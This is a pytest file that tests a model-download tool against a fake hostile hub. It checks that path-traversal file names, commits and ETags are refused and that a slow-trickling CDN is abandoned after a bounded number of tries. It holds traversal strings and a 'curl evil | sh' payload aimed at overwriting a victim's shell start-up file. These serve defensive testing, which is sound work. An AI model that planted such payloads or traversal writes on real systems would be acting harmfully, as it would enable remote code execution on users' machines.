"""`vllm-tray pull` against a hub that lies (issue 31, items 1 and 6): a file name, commit or
ETag that climbs out of the cache is refused with one sentence that names it, and nothing is
written outside the cache; a CDN that sends a few bytes per connection is given up after a
bounded number of tries."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.fakes.engine_runtime import fake_engine, make_runtime
from tests.fakes.fake_hub import FakeHub, build_tiny_model
from tests.fakes.remote_servers import ServeProcess, free_port

ROOT = Path(__file__).resolve().parents[2]
ORIGINAL = b"# the user's own shell start-up file\n"
EVIL = b"curl evil | sh\n"
UP = "../" * 40  # more than the cache is deep: from the snapshot up to /


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    folder = tmp_path / "victim"
    folder.mkdir()
    (folder / "bashrc").write_bytes(ORIGINAL)
    return folder


@pytest.fixture
def evil_hub(tmp_path: Path) -> Iterator[FakeHub]:
    """A hub serving evil/traverse (a tiny model); each test sets what it lies about."""
    build_tiny_model(tmp_path / "repos" / "evil" / "traverse", weights_bytes=2 << 20, extras=False)
    fake = FakeHub()
    fake.start(tmp_path / "repos")
    yield fake
    fake.stop()


def outside_cache(tmp_path: Path) -> dict[str, str]:
    """Every path under tmp_path but the cache, the app's home and the hub's repos, with what
    it is: a file's digest, a link's target, or a folder."""
    seen: dict[str, str] = {}
    for folder, dirs, files in os.walk(tmp_path):
        dirs[:] = [d for d in dirs if d not in ("hf-home", "home", "repos")]
        for name in dirs + files:
            path = Path(folder) / name
            if path.is_symlink():
                seen[str(path)] = f"link {path.readlink()}"
            elif path.is_file():
                seen[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                seen[str(path)] = "folder"
    return seen


def pull(hub: FakeHub, tmp_path: Path, checkpoint: str) -> subprocess.CompletedProcess[str]:
    env = {
        **{k: v for k, v in os.environ.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY")},
        "HF_ENDPOINT": hub.url,
        "HF_HUB_OFFLINE": "0",
        "VLLM_TRAY_HOME": str(tmp_path / "home"),
    }
    return subprocess.run(
        [sys.executable, "-m", "app", "pull", "user.trav", "--checkpoint", checkpoint],
        check=False,
        cwd=ROOT,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )


def last_line(proc: subprocess.CompletedProcess[str]) -> str:
    lines = proc.stderr.strip().splitlines()
    assert lines, proc.stdout
    return lines[-1].removeprefix("vllm-tray: ")


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(f"{UP}VICTIM/bashrc", id="climbing"),
        pytest.param(f"a/{UP}VICTIM/bashrc", id="climbing-after-a-folder"),
        pytest.param("/VICTIM/bashrc", id="absolute"),
        pytest.param("a\\..\\..\\bashrc", id="backslashes"),
        pytest.param("config\x00.json", id="nul"),
        pytest.param("./config.json", id="dot"),
    ],
)
def test_a_file_name_that_leaves_the_snapshot_is_refused_and_nothing_is_written(
    evil_hub: FakeHub, victim: Path, tmp_path: Path, hf_cache: Path, name: str
) -> None:
    name = name.replace("/VICTIM", str(victim)).replace("VICTIM", str(victim).lstrip("/"))
    evil_hub.hostile.files[name] = EVIL
    before = outside_cache(tmp_path)
    proc = pull(evil_hub, tmp_path, "evil/traverse")
    assert proc.returncode not in (0, 2), proc.stderr
    line = last_line(proc)
    assert line.startswith(f"The hub at {evil_hub.url} listed a file of evil/traverse as"), line
    assert "nothing was downloaded" in line
    assert (victim / "bashrc").read_bytes() == ORIGINAL
    assert outside_cache(tmp_path) == before
    assert not [r for r in evil_hub.requests if "/resolve/" in r.path]  # refused before a GET


def test_a_commit_that_is_a_path_is_refused_and_nothing_is_written(
    evil_hub: FakeHub, victim: Path, tmp_path: Path, hf_cache: Path
) -> None:
    evil_hub.hostile.commit = f"{UP}{str(victim).lstrip('/')}/shadir"
    before = outside_cache(tmp_path)
    proc = pull(evil_hub, tmp_path, "evil/traverse")
    assert proc.returncode not in (0, 2), proc.stderr
    line = last_line(proc)
    assert line.startswith(f"The hub at {evil_hub.url} gave '{UP}"), line
    assert "as the commit of evil/traverse, which is not a commit id" in line
    assert outside_cache(tmp_path) == before
    assert not (victim / "shadir").exists()
    assert not list(hf_cache.rglob("refs/*"))  # the traversal was not written as a ref


def test_an_etag_that_is_a_path_is_refused_and_nothing_is_written(
    evil_hub: FakeHub, victim: Path, tmp_path: Path, hf_cache: Path
) -> None:
    evil_hub.hostile.etag = f"{UP}{str(victim).lstrip('/')}/etagfile"
    before = outside_cache(tmp_path)
    proc = pull(evil_hub, tmp_path, "evil/traverse")
    assert proc.returncode not in (0, 2), proc.stderr
    line = last_line(proc)
    assert line.startswith(f"The hub at {evil_hub.url} gave '{UP}"), line
    assert "as the checksum of a file of evil/traverse, which is not a checksum" in line
    assert outside_cache(tmp_path) == before
    assert not (victim / "etagfile").exists()
    assert not [p for p in hf_cache.rglob("*") if p.is_file() and "blobs" in p.parts]


@pytest.mark.parametrize("revision", ["../../x", "a/../../x", "/etc", "a\\b", "main/", "."])
def test_a_revision_with_path_characters_is_bad_input(
    evil_hub: FakeHub, victim: Path, tmp_path: Path, hf_cache: Path, revision: str
) -> None:
    proc = pull(evil_hub, tmp_path, f"evil/traverse:{revision}")
    assert proc.returncode == 2, proc.stderr
    assert "is neither a Hugging Face repository" in last_line(proc)
    assert not evil_hub.requests  # refused before the hub was asked anything
    assert not hf_cache.exists() or not any(hf_cache.rglob("*"))


def test_a_cdn_that_trickles_is_given_up_after_a_bounded_number_of_tries(
    evil_hub: FakeHub, tmp_path: Path, hf_cache: Path
) -> None:
    """It sent 20 bytes per connection and was retried every 0.5 s for as long as it ran
    (~230 tries in 120 s): any byte counted as progress."""
    evil_hub.hostile.trickle = 20
    proc = pull(evil_hub, tmp_path, "evil/traverse")
    assert proc.returncode not in (0, 2), proc.stderr
    line = last_line(proc)
    assert line.startswith("model.safetensors of evil/traverse is not arriving: 5 tries"), line
    assert "(the connection broke off)" in line
    tries = [r for r in evil_hub.requests if r.server == "cdn" and r.method == "GET"]
    assert len(tries) == 5  # MAX_ATTEMPTS_WITHOUT_PROGRESS
    assert evil_hub.served("evil/traverse", "model.safetensors") == 5 * 20


@pytest.fixture
def serve(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, evil_hub: FakeHub
) -> Iterator[ServeProcess]:
    port = free_port()
    make_runtime(
        tmp_path,
        monkeypatch,
        models=(),
        settings={"proxy.port": port, "engine.custom_command": fake_engine()},
    )
    env = {
        "HF_ENDPOINT": evil_hub.url,
        "HF_HUB_OFFLINE": "0",
        "HF_HUB_CACHE": str(tmp_path / "hub"),
    }
    running = ServeProcess(tmp_path / "home", port, env)
    try:
        yield running
    finally:
        assert running.stop() == 0, "".join(running.lines[-30:])


def test_the_endpoints_pull_refuses_the_same_names(
    serve: ServeProcess, evil_hub: FakeHub, victim: Path, tmp_path: Path
) -> None:
    evil_hub.hostile.files[f"{UP}{str(victim).lstrip('/')}/bashrc"] = EVIL
    body = {"model_name": "user.trav", "checkpoint": "evil/traverse"}
    with httpx.Client(base_url=serve.url, timeout=httpx.Timeout(60)) as client:
        r = client.post("/api/v1/pull", json=body)
    assert r.status_code == 502, r.text
    error = json.loads(r.text)["error"]
    assert error["code"] == "downloads.hub_bad_answer", error
    assert "nothing was downloaded" in error["message"]
    assert (victim / "bashrc").read_bytes() == ORIGINAL
    assert sorted(p.name for p in victim.iterdir()) == ["bashrc"]
